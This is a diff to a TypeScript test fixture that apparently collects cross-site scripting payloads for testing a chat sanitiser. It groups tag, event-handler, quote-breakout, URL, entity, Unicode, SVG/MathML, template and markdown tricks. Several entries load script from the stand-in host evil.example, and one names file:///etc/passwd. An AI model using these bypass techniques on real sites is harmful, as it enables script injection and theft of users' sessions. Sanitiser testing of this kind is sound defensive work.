@@ -1,8 +1,8 @@
 /**
- * What people have written into chats to make markup or code of it, in the families that sanitisers have fallen for.
- * Each would leave a trace if it worked: an alert, or a global called `stolen`.
+ * What people have written into chats to make markup or code of it, by the family that sanitisers have fallen for. Each would
+ * leave a trace if it worked: an alert, a request to evil.example, an element, or a global called `stolen`.
  */
-export const payloads: readonly string[] = [
+const known: readonly string[] = [
   "<script>stolen=1</script>",
   "<img src=x onerror=stolen=1>",
   "<svg onload=stolen=1>",
@@ -86,3 +86,223 @@ export const payloads: readonly string[] = [
   "\u001b]0;stolen\u0007\u001b[31mred\u001b[0m",
   "\u0000<img src=x onerror=stolen=1>",
 ];
+
+const elements: readonly string[] = [
+  "<a>",
+  "<area href=javascript:stolen=1 shape=default>",
+  "<bgsound src=javascript:stolen=1>",
+  "<blink>x</blink>",
+  "<canvas onclick=stolen=1>",
+  "<dialog open><form method=dialog><button autofocus onfocus=stolen=1>",
+  "<fencedframe>",
+  "<frameset onload=stolen=1>",
+  "<frame src=javascript:stolen=1>",
+  "<isindex type=image src=x onerror=stolen=1>",
+  "<keygen autofocus onfocus=stolen=1>",
+  "<layer src=//evil.example/x.js>",
+  "<listing>&lt;img src=x onerror=stolen=1&gt;</listing>",
+  "<menu id=x contextmenu=x onshow=stolen=1>",
+  "<object type=text/html data=//evil.example>",
+  "<plaintext>everything behind is text",
+  "<portal src=//evil.example>",
+  "<slot name=x>",
+  "<track kind=captions src=//evil.example onerror=stolen=1>",
+  '<xmp><img alt="</xmp><img src=x onerror=stolen=1>">',
+  "<script type=module>import '//evil.example/x.js'</script>",
+  '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example"]}]}</script>',
+  '<script type=importmap>{"imports":{"x":"//evil.example/x.js"}}</script>',
+  "<custom-element onconnected=stolen=1>",
+  '<is-land is="is-land" onclick=stolen=1>',
+];
+
+const attributes: readonly string[] = [
+  "onafterprint",
+  "onanimationstart",
+  "onauxclick",
+  "onbeforeinput",
+  "oncontentvisibilityautostatechange",
+  "onfocusin",
+  "ongotpointercapture",
+  "onhashchange",
+  "onmessage",
+  "onpointerrawupdate",
+  "onpopstate",
+  "onscrollend",
+  "onsecuritypolicyviolation",
+  "ontransitionend",
+  "onunhandledrejection",
+  "onwheel",
+].map((name) => `<div ${name}=stolen=1 style="animation:x 1s;transition:all 1s" tabindex=0>${name}</div>`);
+
+const quotes: readonly string[] = [
+  '" onmouseover="stolen=1',
+  "' onmouseover='stolen=1",
+  "` onmouseover=`stolen=1",
+  '" autofocus onfocus=stolen=1 x="',
+  '"/><img src=x onerror=stolen=1>',
+  "javascript:stolen=1//\"onmouseover=stolen=1 '",
+  '" style="position:fixed;inset:0" data-x="',
+  '"]\'); stolen=1; (["',
+  "'-(stolen=1)-'",
+  "\\'-(stolen=1)//",
+  "</script><!--<script>stolen=1</script>",
+  "--><img src=x onerror=stolen=1>",
+  "]]><img src=x onerror=stolen=1>",
+  '"}}<img src=x onerror=stolen=1>',
+  "' or 1=1; <img src=x onerror=stolen=1> --",
+];
+
+/** Addresses that are none for a page to open, and some that look like others. */
+const addresses: readonly string[] = [
+  "javascript:stolen=1",
+  "JaVaScRiPt:stolen=1",
+  "java\u0000script:stolen=1",
+  "java\tscript:stolen=1",
+  "java\nscript:stolen=1",
+  "\u0001javascript:stolen=1",
+  " javascript:stolen=1",
+  "javascript\uff1astolen=1",
+  "javascript&colon;stolen=1",
+  "javascript:%0astolen=1",
+  "javascript://https://example.org/%0astolen=1",
+  "https://javascript:stolen=1@evil.example/",
+  "data:text/html,<script>stolen=1</script>",
+  "data:text/html;base64,PHNjcmlwdD5zdG9sZW49MTwvc2NyaXB0Pg==",
+  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='stolen=1'/>",
+  "vbscript:stolen=1",
+  "livescript:stolen=1",
+  "blob:https://evil.example/1",
+  "filesystem:https://evil.example/temporary/x.html",
+  "file:///etc/passwd",
+  "view-source:https://evil.example/",
+  "about:srcdoc",
+  "intent://evil.example#Intent;scheme=https;end",
+  "mailto:a@b.example?body=<script>stolen=1</script>",
+  "ws://evil.example/",
+  "ftp://evil.example/x",
+  "//evil.example/x.js",
+  "https:evil.example",
+  "https:/\\evil.example",
+  "http://evil.example\\@example.org/",
+  "http://example.org@evil.example/",
+  "http://example.org:pass@evil.example/",
+  "http://\u0430pple.example/",
+  "http://example.org/\u202egpj.exe",
+  "http://example.org/?q=<script>stolen=1</script>",
+  'http://example.org/"onmouseover="stolen=1',
+  "http://[::1]/",
+  "http://999999999999/",
+  "http://%00/",
+  "https://example.org/#<img src=x onerror=stolen=1>",
+];
+
+const entities: readonly string[] = [
+  "&lt;img src=x onerror=stolen=1&gt;",
+  "&#x3c;img src=x onerror=stolen=1&#x3e;",
+  "&#0060;img src=x onerror=stolen=1>",
+  "&LT;script&GT;stolen=1&LT;/script&GT;",
+  "&amp;lt;script&amp;gt;stolen=1",
+  "&NewLine;&Tab;javascript&colon;stolen&equals;1",
+  "<img src=x onerror=&#x73;tolen&#61;1>",
+  "%253Cscript%253Estolen=1%253C/script%253E",
+  "+ADw-script+AD4-stolen=1+ADw-/script+AD4-",
+  "\\x3cscript\\x3estolen=1",
+  "\\74script\\76stolen=1",
+  "%u003Cscript%u003Estolen=1",
+];
+
+const foreign: readonly string[] = [
+  "<svg><style><img src=x onerror=stolen=1></style></svg>",
+  "<svg><title><img src=x onerror=stolen=1></title></svg>",
+  "<svg><desc><![CDATA[</desc><img src=x onerror=stolen=1>]]></svg>",
+  "<svg><set attributeName=href to=javascript:stolen=1 /><a>x</a></svg>",
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=stolen=1 />#x" /></svg>',
+  "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>stolen=1</handler></svg>",
+  "<svg><image href=x onerror=stolen=1></svg>",
+  "<svg><discard onbegin=stolen=1></svg>",
+  "<svg><feImage href=//evil.example/x.svg /></svg>",
+  "<math href=javascript:stolen=1>x</math>",
+  "<math><maction actiontype=statusline#http://evil.example xlink:href=javascript:stolen=1>x</maction></math>",
+  "<math><mi><!--</mi><img src=x onerror=stolen=1>--></math>",
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=stolen=1&gt;">',
+  '<math><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=stolen=1>',
+];
+
+const templates: readonly string[] = [
+  "{{stolen=1}}",
+  "{{$on.constructor('stolen=1')()}}",
+  "[[${stolen=1}]]",
+  "#{stolen=1}",
+  "<%= stolen=1 %>",
+  "<?php stolen(); ?>",
+  "{% raw %}<img src=x onerror=stolen=1>{% endraw %}",
+  "<div ng-app ng-csp><input ng-focus=$event.view.stolen=1 autofocus>",
+  "<div v-html=\"'<img src=x onerror=stolen=1>'\"></div>",
+  "<div x-data x-init=stolen=1></div>",
+  "<div data-bind=\"html:'<img src=x onerror=stolen=1>'\">",
+  "<div hx-get=//evil.example hx-trigger=load>",
+  '{"type":"img","props":{"src":"x","onerror":"stolen=1"},"__k":null}',
+  '{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"stolen=1"}}',
+];
+
+/** Characters that hide, turn, join or stand for others. Written as escapes: they are not seen otherwise. */
+const characters: readonly string[] = [
+  "\u2066<script>stolen=1</script>\u2069",
+  "\u200b<\u200bscript>stolen=1",
+  "<\u200dimg src=x onerror=stolen=1>",
+  "\uff1cscript\uff1estolen=1\uff1c/script\uff1e",
+  "\ufe64img src=x onerror=stolen=1\ufe65",
+  "\u226e script\u226f stolen=1",
+  "<\u0338script>stolen=1",
+  "<img\u2028src=x\u2029onerror=stolen=1>",
+  "<img\u000bsrc=x\u000conerror=stolen=1>",
+  "<img src=x onerror\u3000=stolen=1>",
+  "\u3164\u115f\uffa0",
+  "\u{e003c}\u{e0069}\u{e006d}\u{e0067}\u{e003e}",
+  "Z\u0351\u036b\u0343\u036a\u0302a\u0350\u0349lgo <img src=x onerror=stolen=1>",
+  "\u202dright\u202e<gmi>\u202c",
+  "\u0085<img src=x onerror=stolen=1>",
+  "\u1680<img src=x onerror=stolen=1>",
+  "\u00ad<scr\u00adipt>stolen=1",
+  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}<img src=x onerror=stolen=1>",
+];
+
+const markdown: readonly string[] = [
+  "[x](data:text/html,<script>stolen=1</script>)",
+  "[x](<javascript:stolen=1>)",
+  "[x](https://example.org 'onmouseover=stolen=1')",
+  "![](//evil.example/pixel.png)",
+  '![x]("onerror="stolen=1)',
+  "[x]: javascript:stolen=1",
+  "<javascript:stolen=1>",
+  "<https://evil.example/x.js>",
+  "`<img src=x onerror=stolen=1>`",
+  "```html\n<img src=x onerror=stolen=1>\n```",
+  "> <img src=x onerror=stolen=1>",
+  "# <img src=x onerror=stolen=1>",
+  "| <img src=x onerror=stolen=1> |\n|---|",
+  "**<b onclick=stolen=1>bold</b>**",
+  ":img{src=x onerror=stolen=1}:",
+  "$$\\href{javascript:stolen=1}{x}$$",
+  "@everyone<script>stolen=1</script>",
+  "/me <img src=x onerror=stolen=1>",
+];
+
+export const payloads: readonly string[] = [
+  ...new Set([
+    ...known,
+    ...elements,
+    ...attributes,
+    ...quotes,
+    ...addresses,
+    ...entities,
+    ...foreign,
+    ...templates,
+    ...characters,
+    ...markdown,
+  ]),
+];
+
+/** Whether everything in it is seen as it is written: nothing invisible, which is shown by a symbol or its code. */
+export const isSeenAsItIs = (text: string): boolean =>
+  !/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\u115f\u1160\u3164\uffa0]/u.test(text);
